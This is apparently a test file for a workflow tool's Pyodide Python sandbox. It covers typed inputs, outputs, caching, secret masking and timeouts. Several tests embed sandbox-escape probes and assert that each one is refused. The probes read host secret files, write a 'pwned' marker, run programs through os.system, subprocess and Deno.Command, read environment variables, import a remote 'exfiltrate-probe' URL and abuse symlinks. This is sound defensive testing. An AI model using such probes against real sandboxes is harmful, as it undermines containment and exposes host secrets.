// `uses: python` with `runtime: pyodide` through the real CLI and the real pyodide (npm):
// typed inputs and outputs, a dependant reading an output, file inputs copied in and declared
// file outputs copied out, the file form, tracebacks of the user's code only, a secret masked,
// a timeout that ends the worker (the next step still runs), compose errors — and attacks from
// inside the interpreter: host files outside the step's declared inputs, writes to the host,
// programs (os.system, subprocess, Deno.Command through the `js` module), the environment,
// dynamic import() of host files, and the network, denied unless the step lists the host.
//
// Lily runs with the test task's user cache (XDG_CACHE_HOME), so the interpreter's memory
// snapshot is made by the first pyodide step of the task and reused by the others.
import { assert, assertEquals, assertMatch } from "../_assert.ts";
import { lily, tempProject } from "../_tools.ts";
import { filesUnder, latestManifest } from "../run/_run.ts";

function flow(steps: string, extra = ""): string {
  return `petal: "1"\nname: pyo\n${extra}steps:\n${steps}`;
}

async function compose(files: Record<string, string>): Promise<string> {
  const dir = await tempProject(files);
  const out = await lily(["compose", "flow.petal", "-o", "flow.lock.yaml", "-q"], { cwd: dir });
  if (out.code !== 0) throw new Error(`compose failed:\n${out.stderr}`);
  return dir;
}

function run(dir: string, args: string[] = [], env: Record<string, string> = {}) {
  return lily(["run", "flow.lock.yaml", ...args], { cwd: dir, env });
}

async function logOf(dir: string, step: string): Promise<string> {
  const m = latestManifest(dir);
  const runs = [...Deno.readDirSync(`${dir}/.lily/runs`)].map((e) => e.name).sort();
  let text = "";
  for (const log of m.steps[step]?.logs ?? []) {
    text += await Deno.readTextFile(`${dir}/.lily/runs/${runs[runs.length - 1]}/${log}`);
  }
  return text;
}

/** A local HTTP server that counts its requests. */
function server() {
  let hits = 0;
  const srv = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, () => {
    hits++;
    return new Response("hello from the server");
  });
  return { port: srv.addr.port, hits: () => hits, close: () => srv.shutdown() };
}

Deno.test("pyodide: typed inputs, outputs by lily.output and $LILY_OUTPUT, files in and out, a dependant", async () => {
  const dir = await compose({
    "data.txt": "three words here\n",
    "flow.petal": flow(
      `  - id: calc
    uses: python
    inputs:
      n: { from: params.n, type: int }
      x: { from: params.x, type: float }
      flag: { from: params.flag, type: bool }
      cfg: { from: params.cfg, type: json }
      data: { path: data.txt, type: file }
    outputs:
      square: { type: int }
      half: { type: float }
      types: { type: str }
      doc: { type: json }
      raw: { type: str }
      report: { path: out/report.txt, type: file }
    with:
      runtime: pyodide
      code: |
        import os, lily
        n = lily.inputs["n"]
        lily.output("square", n * n)
        lily.output("half", lily.input("x") / 2)
        kinds = [type(lily.inputs[k]).__name__ for k in ("n", "x", "flag", "cfg", "data")]
        lily.output("types", ",".join(kinds))
        with open(lily.inputs["data"]) as f:
            words = len(f.read().split())
        lily.output("doc", {"cfg": lily.inputs["cfg"], "flag": not lily.inputs["flag"], "words": words})
        with open(os.environ["LILY_OUTPUT"], "a") as out:
            out.write("raw=" + os.environ["LILY_INPUT_N"] + "\\n")
        os.makedirs("out", exist_ok=True)
        with open("out/report.txt", "w") as f:
            f.write("words: %d\\n" % words)
  - id: use
    uses: python
    needs: [calc]
    inputs:
      sq: { from: steps.calc.outputs.square, type: int }
      report: { from: steps.calc.outputs.report, type: file }
    outputs:
      plus: { type: int }
      seen: { type: str }
    with:
      runtime: pyodide
      code: |
        import lily
        lily.output("plus", lily.input("sq") + 1)
        lily.output("seen", open(lily.inputs["report"]).read().strip())
`,
      `params:
  n: { type: int, default: 7 }
  x: { type: float, default: 5 }
  flag: { type: bool, default: true }
  cfg: { type: json, default: {a: [1, 2]} }
`,
    ),
  });
  try {
    const lock = await Deno.readTextFile(`${dir}/flow.lock.yaml`);
    assertEquals([...lock.matchAll(/adapter: python/g)].length, 2, lock);
    const out = await run(dir);
    assertEquals(out.code, 0, out.stderr + out.stdout);
    const m = latestManifest(dir);
    const o = m.steps.calc.outputs;
    assertEquals(o.square.value, 49);
    assertEquals(o.half.value, 2.5);
    assertEquals(o.types.value, "int,float,bool,dict,str");
    assertEquals(o.doc.value, { cfg: { a: [1, 2] }, flag: false, words: 3 });
    assertEquals(o.raw.value, "7");
    assertEquals(await Deno.readTextFile(`${dir}/out/report.txt`), "words: 3\n");
    assertEquals(m.steps.use.outputs.plus.value, 50);
    assertEquals(m.steps.use.outputs.seen.value, "words: 3");
    assertEquals(m.steps.calc.enforcement.sandbox, "pyodide-worker");
    // A second run: both cached.
    const again = await run(dir);
    assertEquals(again.code, 0, again.stderr);
    assertEquals(latestManifest(dir).steps.use.cache.decision, "hit");
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("pyodide: with.file runs a project file; a change re-runs it; state does not leak between steps", async () => {
  const dir = await compose({
    "scripts/step.py": 'import lily\nlily.output("v", "one")\n',
    "flow.petal": flow(`  - id: f
    uses: python
    outputs: { v: { type: str } }
    with: { runtime: pyodide, file: scripts/step.py }
  - id: leave
    uses: python
    with:
      runtime: pyodide
      code: |
        import builtins, sys, os
        builtins.LEFT = 1
        sys.path.append("/nowhere")
        global_left = 2
        open("/tmp/left.txt", "w").write("x")
  - id: look
    uses: python
    needs: [leave]
    outputs: { seen: { type: json } }
    with:
      runtime: pyodide
      code: |
        import builtins, sys, os, lily
        lily.output("seen", [hasattr(builtins, "LEFT"), "/nowhere" in sys.path,
                             "global_left" in globals(), os.path.exists("/tmp/left.txt"),
                             sys.stdin.read()])
`),
  });
  try {
    let out = await run(dir, ["-j", "1"]);
    assertEquals(out.code, 0, out.stderr + out.stdout);
    assertEquals(latestManifest(dir).steps.f.outputs.v.value, "one");
    assertEquals(latestManifest(dir).steps.look.outputs.seen.value, [
      false,
      false,
      false,
      false,
      "",
    ]);
    await Deno.writeTextFile(`${dir}/scripts/step.py`, 'import lily\nlily.output("v", "two")\n');
    out = await run(dir);
    assertEquals(out.code, 0, out.stderr + out.stdout);
    const m = latestManifest(dir);
    assertEquals(m.steps.f.cache.decision, "miss");
    assertEquals(m.steps.f.outputs.v.value, "two");
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("pyodide: an exception shows a traceback of the user's code only", async () => {
  const dir = await compose({
    "flow.petal": flow(`  - id: boom
    uses: python
    with:
      runtime: pyodide
      code: |
        import lily
        def inner():
            lily.input("missing")
        inner()
`),
  });
  try {
    const out = await run(dir);
    assertEquals(out.code, 1, out.stderr + out.stdout);
    const log = await logOf(dir, "boom");
    assertMatch(log, /File "<step boom>", line 4, in <module>/);
    assertMatch(log, /File "<step boom>", line 3, in inner/);
    assertMatch(log, /KeyError: "step boom declares no input 'missing'/);
    assertMatch(log, /lily: step boom: the Python code raised KeyError/);
    // No frame of the runner or of pyodide itself.
    assert(!/<exec>|_pyodide|python_stdlib|\.mjs/.test(log), log);
    assertEquals(latestManifest(dir).steps.boom.exit_code, 1);
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("pyodide: a secret input is masked in the log and the console", async () => {
  const dir = await compose({
    "flow.petal": flow(
      `  - id: s
    uses: python
    inputs: { tok: { from: params.tok } }
    with:
      runtime: pyodide
      code: |
        import lily, os
        print("token is " + lily.inputs["tok"])
        print("env has " + os.environ["LILY_INPUT_TOK"])
`,
      "params:\n  tok: { type: secret }\n",
    ),
  });
  try {
    const out = await run(dir, ["-v"], { LILY_SECRET_TOK: "abcdefghijklmnop" });
    assertEquals(out.code, 0, out.stderr + out.stdout);
    const log = await logOf(dir, "s");
    assertMatch(log, /^token is \*\*\*$/m);
    assertMatch(log, /^env has \*\*\*$/m);
    assert(!(log + out.stdout + out.stderr).includes("abcdefghijklmnop"));
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("pyodide: a timeout ends the worker, and the next step runs in a new one", async () => {
  const dir = await compose({
    "flow.petal": flow(
      `  - id: spin
    uses: python
    timeout: 1s
    with:
      runtime: pyodide
      code: |
        while True:
            pass
`,
    ) + `on_error:
  - id: after
    uses: python
    outputs: { v: { type: int } }
    with:
      runtime: pyodide
      code: |
        import lily
        lily.output("v", 6 * 7)
`,
  });
  try {
    const out = await run(dir);
    assertEquals(out.code, 1, out.stderr + out.stdout);
    assertMatch(out.stdout, /spin.*timed out after 1000 ms/);
    const m = latestManifest(dir);
    assertEquals(m.steps.spin.status, "failed");
    assertEquals(m.steps.after.status, "succeeded");
    assertEquals(m.steps.after.outputs.v.value, 42);
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("pyodide attacks: host files, writes, programs, environment and import() are denied", async () => {
  const outside = await Deno.makeTempDir({ prefix: "lily-pyodide-outside-" });
  await Deno.writeTextFile(`${outside}/secret.json`, '{"secret": "outside-json-value"}');
  await Deno.writeTextFile(`${outside}/secret.js`, 'export const s = "outside-js-value";');
  await Deno.writeTextFile(`${outside}/secret.txt`, "outside-text-value");
  const marker = `${outside}/pwned`;
  // An absolute path: the worker has no PATH to look a name up in.
  const touch = ["/usr/bin/touch", "/bin/touch"].find((p) => {
    try {
      return Deno.statSync(p).isFile;
    } catch {
      return false;
    }
  })!;
  const dir = await compose({
    "undeclared.txt": "undeclared-project-value",
    "flow.petal": flow(`  - id: probe
    uses: python
    env: { OUTSIDE: "${outside}", MARKER: "${marker}", TOUCH: "${touch}" }
    with:
      runtime: pyodide
      code: |
        import os, js
        from pyodide.code import run_js
        outside, marker = os.environ["OUTSIDE"], os.environ["MARKER"]
        def attempt(name, fn):
            try:
                print(name, "GOT", fn())
            except BaseException as e:
                print(name, "REFUSED", type(e).__name__, str(e).splitlines()[0][:160])
        attempt("open-outside", lambda: open(outside + "/secret.txt").read())
        attempt("open-undeclared", lambda: open("undeclared.txt").read())
        attempt("deno-read", lambda: js.Deno.readTextFileSync(outside + "/secret.txt"))
        attempt("deno-read-project", lambda: js.Deno.readTextFileSync(os.getcwd() + "/undeclared.txt"))
        attempt("deno-write", lambda: js.Deno.writeTextFileSync(marker, "x"))
        attempt("deno-env", lambda: js.Deno.env.get("HOME"))
        attempt("deno-command", lambda: js.Deno.Command.new(os.environ["TOUCH"]).outputSync())
        async def imports():
            for url, opts in (("/secret.json", "{with: {type: 'json'}}"), ("/secret.js", "{}")):
                try:
                    m = await run_js("import('file://" + outside + url + "', " + opts + ")")
                    print("import", url, "GOT", js.JSON.stringify(m))
                except BaseException as e:
                    print("import", url, "REFUSED", type(e).__name__, str(e).splitlines()[0][:160])
        await imports()
        for how, load in (("run_js", lambda u: run_js("import('" + u + "')")),
                          ("eval", lambda u: js.eval("import('" + u + "')")),
                          ("function", lambda u: js.Function("u", "return import(u)")(u))):
            try:
                await load("https://deno.land/x/lily-exfiltrate-probe.ts")
                print("remote-import", how, "GOT")
            except BaseException as e:
                print("remote-import", how, "REFUSED", str(e).splitlines()[0][:160])
        attempt("storage", lambda: js.localStorage.setItem("k", "v"))
        attempt("caches", lambda: js.caches.open("k"))
        with open("/tmp/inside-only.txt", "w") as f:
            f.write("stays in the interpreter")
        os.makedirs(outside + "/made", exist_ok=True)
        open(outside + "/made/file.txt", "w").write("x")
        print("done probing")
`),
  });
  try {
    const out = await run(dir);
    assertEquals(out.code, 0, out.stderr + out.stdout);
    const log = await logOf(dir, "probe");
    assertMatch(log, /^done probing$/m);
    for (const name of ["open-outside", "open-undeclared"]) {
      assertMatch(log, new RegExp(`^${name} REFUSED FileNotFoundError`, "m"));
    }
    for (
      const [name, what] of [
        ["deno-read", "read"],
        ["deno-read-project", "read"],
        ["deno-write", "write"],
        ["deno-env", "env"],
        ["deno-command", "run"],
      ]
    ) {
      assertMatch(log, new RegExp(`^${name} REFUSED .*Requires ${what} access`, "m"));
    }
    assertMatch(log, /^import \/secret\.json REFUSED .*Requires read access/m);
    assertMatch(log, /^import \/secret\.js REFUSED .*Requires read access/m);
    for (const how of ["run_js", "eval", "function"]) {
      assertMatch(log, new RegExp(`^remote-import ${how} REFUSED `, "m"));
    }
    assert(!log.includes(" GOT"), log);
    assertMatch(log, /^storage REFUSED AttributeError/m);
    assertMatch(log, /^caches REFUSED AttributeError/m);
    for (const value of ["outside-json-value", "outside-js-value", "outside-text-value"]) {
      assert(!log.includes(value), `${value} leaked:\n${log}`);
    }
    assert(!log.includes("undeclared-project-value"), log);
    // Nothing reached the host: not the marker, not the files written inside.
    assertEquals([...Deno.readDirSync(outside)].map((e) => e.name).sort(), [
      "secret.js",
      "secret.json",
      "secret.txt",
    ]);
    await Deno.stat("/tmp/inside-only.txt").then(
      () => {
        throw new Error("/tmp/inside-only.txt reached the host");
      },
      () => {},
    );
    assertEquals(filesUnder(dir).filter((f) => f.includes("pwned")), []);
  } finally {
    await Deno.remove(dir, { recursive: true });
    await Deno.remove(outside, { recursive: true });
  }
});

Deno.test("pyodide attacks: os.system and subprocess are refused with a clear denial (status 126)", async () => {
  const marker = await Deno.makeTempFile({ prefix: "lily-pyodide-marker-" });
  await Deno.remove(marker);
  const dir = await compose({
    "flow.petal": flow(`  - id: sys
    uses: python
    with:
      runtime: pyodide
      code: |
        import os
        try:
            os.system("touch ${marker}")
        except BaseException as e:
            print("caught", type(e).__name__)
        open("/tmp/after", "w")
        print("survived")
  - id: sub
    uses: python
    with:
      runtime: pyodide
      code: |
        import subprocess
        subprocess.run(["touch", "${marker}"])
`),
  });
  try {
    const out = await run(dir, ["--continue", "always"]);
    assertEquals(out.code, 1, out.stderr + out.stdout);
    const m = latestManifest(dir);
    for (const id of ["sys", "sub"]) {
      assertEquals(m.steps[id].status, "failed", id);
      assertEquals(m.steps[id].exit_code, 126, id);
      const log = await logOf(dir, id);
      const line = log.split("\n").find((l) => l.startsWith("lily: denied:")) ?? "";
      assertMatch(line, new RegExp(`in python step ${id}; pyodide steps start no programs`), log);
    }
    const sys = await logOf(dir, "sys");
    assertMatch(
      sys,
      /lily: denied: os\.system\('touch .*'\) \(audit event os\.system\) \(<step sys>:3\)/,
    );
    // Catching the refusal does not let the code go on.
    assertMatch(sys, /^caught Denied$/m);
    assert(!sys.includes("survived"), sys);
    await Deno.stat(marker).then(
      () => {
        throw new Error("the program ran");
      },
      () => {},
    );
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("pyodide attacks: the network is denied unless the step lists the host", async () => {
  const srv = server();
  const code = `      code: |
        import lily, js
        try:
            r = await js.fetch("http://127.0.0.1:${srv.port}/")
            lily.output("body", await r.text())
        except BaseException as e:
            print("REFUSED", str(e).splitlines()[0])
            lily.output("body", "refused")
`;
  const dir = await compose({
    "flow.petal": flow(`  - id: closed
    uses: python
    outputs: { body: { type: str } }
    with:
      runtime: pyodide
${code}  - id: other
    uses: python
    outputs: { body: { type: str } }
    resources: { network: ["127.0.0.2:${srv.port}"] }
    with:
      runtime: pyodide
${code}  - id: open
    uses: python
    outputs: { body: { type: str } }
    resources: { network: ["127.0.0.1:${srv.port}"] }
    with:
      runtime: pyodide
${code}`),
  });
  try {
    const out = await run(dir);
    assertEquals(out.code, 0, out.stderr + out.stdout);
    const m = latestManifest(dir);
    assertEquals(m.steps.closed.outputs.body.value, "refused");
    assertMatch(await logOf(dir, "closed"), /REFUSED .*Requires net access/);
    assertEquals(m.steps.other.outputs.body.value, "refused");
    assertEquals(m.steps.open.outputs.body.value, "hello from the server");
    assertEquals(srv.hits(), 1);
  } finally {
    await srv.close();
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("pyodide: compose refuses packages, with.python and adapter mismatches", async () => {
  const dir = await tempProject({
    "flow.petal": flow(`  - id: pk
    uses: python
    with: { runtime: pyodide, packages: [numpy], code: "print(1)" }
  - id: interp
    uses: python
    with: { runtime: pyodide, python: python3, code: "print(1)" }
  - id: sh
    uses: shell
    adapter: python
    with: { run: "true" }
  - id: sys
    uses: python
    adapter: python
    with: { runtime: system, code: "print(1)" }
  - id: proc
    uses: python
    adapter: process
    with: { runtime: pyodide, code: "print(1)" }
  - id: implied
    uses: python
    adapter: python
    with: { code: "print(1)" }
`),
  });
  try {
    const out = await lily(["compose", "flow.petal", "-o", "flow.lock.yaml"], { cwd: dir });
    assert(out.code !== 0, out.stderr);
    assertMatch(
      out.stderr,
      /error\[LILY-E0682\]: python step `pk`: `runtime: pyodide` cannot load packages \(numpy\)/,
    );
    assertMatch(out.stderr, /error\[LILY-E0683\]: python step `interp`/);
    assertMatch(
      out.stderr,
      /error\[LILY-E0684\]: step `sh`: `adapter: python` runs only `uses: python` steps/,
    );
    assertMatch(
      out.stderr,
      /error\[LILY-E0684\]: python step `sys`: `adapter: python` runs `runtime: pyodide`, not `runtime: system`/,
    );
    assertMatch(
      out.stderr,
      /error\[LILY-E0684\]: python step `proc`: `runtime: pyodide` runs in `adapter: python`, not `process`/,
    );
    assert(!out.stderr.includes("`implied`"), out.stderr);
    assertEquals([...out.stderr.matchAll(/^error\[/gm)].length, 5, out.stderr);
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("docs/petal.md: the pyodide snippet runs and gives what the page says", async () => {
  const page = await Deno.readTextFile(new URL("../../docs/petal.md", import.meta.url));
  const petal = /```yaml\n# pyodide-snippet[^\n]*\n([\s\S]*?)```/.exec(page)?.[1];
  const notes = /with `notes\.txt`:\n\n```text\n([\s\S]*?)```/.exec(page)?.[1];
  if (!petal || !notes) throw new Error("the pyodide snippet is missing from docs/petal.md");
  const dir = await compose({ "flow.petal": petal, "notes.txt": notes });
  try {
    const out = await run(dir);
    assertEquals(out.code, 0, out.stderr + out.stdout);
    assertEquals(latestManifest(dir).steps.words.outputs.count.value, 3);
    assertEquals(await Deno.readTextFile(`${dir}/out/summary.txt`), "3 words\n");
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("pyodide attacks: an input that links outside the roots, an output over a host link", async () => {
  const outside = await Deno.makeTempDir({ prefix: "lily-pyodide-links-" });
  await Deno.writeTextFile(`${outside}/secret.txt`, "linked-secret-value");
  const dir = await compose({
    "flow.petal": flow(`  - id: readlink
    uses: python
    inputs: { f: { path: link.txt, type: file } }
    with:
      runtime: pyodide
      code: |
        import lily
        print(open(lily.inputs["f"]).read())
  - id: writelink
    uses: python
    outputs: { o: { path: out/target.txt, type: file } }
    with:
      runtime: pyodide
      code: |
        import os
        os.makedirs("out", exist_ok=True)
        open("out/target.txt", "w").write("overwritten")
`),
  });
  try {
    await Deno.symlink(`${outside}/secret.txt`, `${dir}/link.txt`);
    await Deno.mkdir(`${dir}/out`);
    await Deno.writeTextFile(`${outside}/victim.txt`, "original");
    await Deno.symlink(`${outside}/victim.txt`, `${dir}/out/target.txt`);
    const out = await run(dir, ["--continue", "always"]);
    assertEquals(out.code, 1, out.stderr + out.stdout);
    const m = latestManifest(dir);
    assertEquals(m.steps.readlink.status, "failed");
    assertMatch(
      out.stdout,
      /readlink.*LILY-E0686|readlink[\s\S]*links outside the step's read roots/,
    );
    assert(!out.stdout.includes("linked-secret-value"), out.stdout);
    assert(!(await logOf(dir, "readlink")).includes("linked-secret-value"));
    assertEquals(m.steps.writelink.status, "failed");
    assertEquals(m.steps.writelink.exit_code, 126);
    assertEquals(await Deno.readTextFile(`${outside}/victim.txt`), "original");
  } finally {
    await Deno.remove(dir, { recursive: true });
    await Deno.remove(outside, { recursive: true });
  }
});

Deno.test("pyodide: steps at once (-j2) run in separate interpreters and each gets its own outputs", async () => {
  const steps = Array.from({ length: 6 }, (_, i) =>
    `  - id: p${i}
    uses: python
    outputs: { v: { type: int } }
    with:
      runtime: pyodide
      code: |
        import lily, sys
        assert "lily" in sys.modules
        lily.output("v", ${i} * 10)
`).join("");
  const dir = await compose({ "flow.petal": flow(steps) });
  try {
    const out = await run(dir, ["-j", "2"]);
    assertEquals(out.code, 0, out.stderr + out.stdout);
    const m = latestManifest(dir);
    for (let i = 0; i < 6; i++) assertEquals(m.steps[`p${i}`].outputs.v.value, i * 10);
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("pyodide: a lock composed for another pyodide is refused before anything starts (E0685)", async () => {
  const { pythonAdapter } = await import("../../adapters/python.ts");
  const adapter = pythonAdapter();
  try {
    const step = {
      id: "old",
      inputs: {},
      outputs: {},
      with: { runtime: "pyodide", pyodide: "0.0.1", code: "print(1)" },
    } as unknown as Parameters<typeof adapter.run>[0]["step"];
    const result = await adapter.run({
      step,
      spec: {
        cwd: "/nonexistent",
        env: { LILY_OUTPUT: "/nonexistent/out" },
        binaries: {},
        readRoots: [],
        writeRoots: [],
        denyRoots: [],
        graceMs: 0,
        pid: 1,
      },
      permissions: { run: [], read: [], write: [], deny: [], net: false, env: [] },
      os: undefined as never,
      write: () => Promise.resolve(),
      signal: new AbortController().signal,
      graceMs: 0,
    });
    assertEquals(result.error?.code, "LILY-E0685");
    assertMatch(
      result.error!.message,
      /composed for pyodide 0\.0\.1, and this Lily has pyodide \d/,
    );
  } finally {
    await adapter.close?.();
  }
});
